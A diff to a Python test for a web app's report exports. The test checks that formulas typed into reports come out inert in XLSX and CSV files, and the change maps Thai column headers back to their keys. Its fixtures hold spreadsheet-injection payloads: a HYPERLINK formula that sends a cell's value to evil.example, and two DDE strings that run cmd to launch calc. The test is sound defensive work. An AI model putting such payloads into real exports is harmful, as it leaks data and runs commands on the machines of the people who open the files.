@@ -17,6 +17,7 @@ from models.user import get_by_username
 from tests.web.conftest import make_app
 from tests.web.helpers import CLOCK, SLUG, signed_in
 from tidtam.app import reporting
+from tidtam.app.labels import labels
 from tidtam.infra.db import session_scope
 
 DISTRICT = "2706"
@@ -24,6 +25,8 @@ CENTER = '=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอี�
 PLACE = "+cmd|' /C calc'!A0"
 OTHER = "@SUM(1+1)*cmd|' /C calc'!A0"
 PHOTO_KINDS = ("tree-planting", "other")
+# The files' headers are Thai words: back to their column keys.
+KEY = {w["th"]: k for k, w in labels()["headers"].items() if isinstance(w, dict)}
 
 
 def _session(key: str, kind: str, **fields) -> dict:
@@ -74,7 +77,7 @@ def test_a_formula_typed_into_a_report_is_inert_in_xlsx_and_csv(any_engine):
     assert sessions_csv.status_code == 200, sessions_csv.text
 
     sheet = load_workbook(io.BytesIO(xlsx.content))["sessions"]
-    header = [c.value for c in sheet[1]]
+    header = [KEY.get(c.value, c.value) for c in sheet[1]]
     rows = [row for row in sheet.iter_rows(min_row=2) if row[0].value == DISTRICT]
     assert len(rows) == 2
     for row in rows:
@@ -92,7 +95,8 @@ def test_a_formula_typed_into_a_report_is_inert_in_xlsx_and_csv(any_engine):
              for line in row.iter_rows() for c in line]
     assert not [c.coordinate for c in every if c.data_type == "f"]
 
-    table = list(csv.DictReader(io.StringIO(sessions_csv.content.decode("utf-8-sig"))))
+    table = [{KEY.get(k, k): v for k, v in row.items()}
+             for row in csv.DictReader(io.StringIO(sessions_csv.content.decode("utf-8-sig")))]
     mine = [r for r in table if r["district_code"] == DISTRICT]
     assert [r["center"] for r in mine] == ["'" + CENTER] * 2
     assert [r["place"] for r in mine] == ["'" + PLACE] * 2
